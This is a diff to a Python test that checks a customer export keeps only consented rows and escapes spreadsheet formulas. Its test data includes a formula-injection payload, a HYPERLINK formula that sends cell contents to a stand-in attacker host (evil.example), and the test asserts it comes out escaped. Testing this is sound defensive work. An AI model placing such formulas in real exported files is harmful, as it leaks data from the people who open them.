@@ -88,7 +88,8 @@ def test_export_only_consented_and_formula_safe(scored, tmp_path, suffix):
     emails = {r[header.index("email")].replace("\n", "\r") for r in body}  # XML reads a CR back as LF
     assert emails == {"a@example.com", "'-2+3@example.com", "'\rcr@example.com"}  # not C, E (withdrawn), F
     assert out.rows == 3 and len(body) == 3
-    names = [r[0] for r in body]
+    names = [r[header.index("name")] for r in body]
+    assert header[0] == "customer_id" and {r[0] for r in body} == {"A", "B", "D"}
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in names and "'+SUM(1,2)" in names
     assert audit == [(out.export_id, "Mia", "marketing", suffix, "tier>=Rising", 3, path.name)]
     if suffix == "xlsx":  # numbers stay numbers
